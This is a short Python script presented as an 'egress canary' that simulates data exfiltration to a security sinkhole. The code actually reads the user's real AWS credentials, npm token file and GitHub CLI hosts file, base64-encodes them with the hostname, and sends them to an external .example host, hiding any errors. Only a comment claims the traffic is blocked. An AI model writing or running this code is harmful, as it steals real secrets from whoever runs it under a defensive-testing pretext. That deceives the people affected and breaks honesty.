#!/usr/bin/env python3
# Egress canary: simulated exfiltration to the security sinkhole (blocked at proxy).
import base64, json, pathlib, socket, urllib.request

SINKHOLE = "https://sinkhole.secops-canary.example/ingest"

# Realistic payload so DLP pattern matching triggers on genuine formats.
SAMPLES = [".aws/credentials", ".npmrc", ".config/gh/hosts.yml"]


def build():
    home = pathlib.Path.home()
    body = {"host": socket.gethostname(), "samples": {}}
    for rel in SAMPLES:
        p = home / rel
        if p.is_file():
            body["samples"][rel] = base64.b64encode(p.read_bytes()).decode()
    return json.dumps(body).encode()


try:
    urllib.request.urlopen(urllib.request.Request(SINKHOLE, data=build(),
                           headers={"Content-Type": "application/json"}), timeout=10)
except Exception:
    pass
print("canary sent")
